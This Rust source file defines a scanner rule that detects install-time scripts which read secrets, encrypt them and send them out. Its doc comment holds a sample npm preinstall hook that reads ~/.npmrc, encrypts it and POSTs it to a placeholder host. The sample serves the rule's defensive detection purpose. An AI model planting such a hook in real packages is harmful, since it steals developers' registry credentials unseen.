//! # Secrets are enciphered and sent
//!
//! Code that nobody asked for reads secrets, enciphers with a key of its own in the same script, and sends.
//!
//! ## Why it matters
//!
//! What is stolen cannot be found in the traffic, and only the holder of the key can read it. The Shai-Hulud family
//! does so.
//!
//! ## Known benign uses
//!
//! Backup tools and vaults do this when they are called.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node collect.js"}}
//! == collect.js
//! const crypto = require("crypto"), fs = require("fs"), os = require("os"), https = require("https");
//! const taken = fs.readFileSync(os.homedir() + "/.npmrc");
//! const key = crypto.randomBytes(32);
//! const cipher = crypto.createCipheriv("aes-256-gcm", key, crypto.randomBytes(12));
//! const sealed = crypto.publicEncrypt("-----BEGIN PUBLIC KEY-----", key);
//! const body = Buffer.concat([sealed, cipher.update(taken), cipher.final()]);
//! https.request({ host: "collect.invalid", method: "POST" }).end(body); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const crypto = require("crypto"), fs = require("fs");
//! exports.backup = (path, key, address) => {
//!   const cipher = crypto.createCipheriv("aes-256-ctr", key, Buffer.alloc(16));
//!   return fetch(address, { method: "PUT", body: cipher.update(fs.readFileSync(path)) });
//! };
//! ```
//!
//! ## References
//!
//! - Wiz: the Shai-Hulud family of 2026
//! - MITRE ATT&CK T1560

use crate::prelude::*;

/// Secrets are enciphered and sent.
pub struct SecretEncipheredBeforeSending;

impl Rule for SecretEncipheredBeforeSending {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "secret-enciphered-before-sending",
            title: "Secrets are enciphered and sent",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1560",
            covers: &["exfil-encrypted-bundle"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let ciphers: Vec<&CallFact> = facts
            .calls(&["crypto.createCipheriv", "crypto.createCipher", "crypto.publicEncrypt"])
            .filter(|call| call.trigger.runs_unasked())
            .collect();
        for flow in facts.flows(Source::is_secret, Sink::leaves_machine) {
            let near = ciphers.iter().find(|call| call.spot.script == flow.sink_spot.script);
            let Some(cipher) = near.filter(|_| flow.trigger.runs_unasked()) else { continue };
            let source = flow.source.phrase();
            let sink = flow.sink.phrase();
            let steps = [
                (facts.locus(flow.source_spot), source.as_str()),
                (facts.locus(cipher.spot), "enciphers"),
                (facts.locus(flow.sink_spot), sink.as_str()),
            ];
            found.path(flow.trigger, &steps);
        }
    }
}
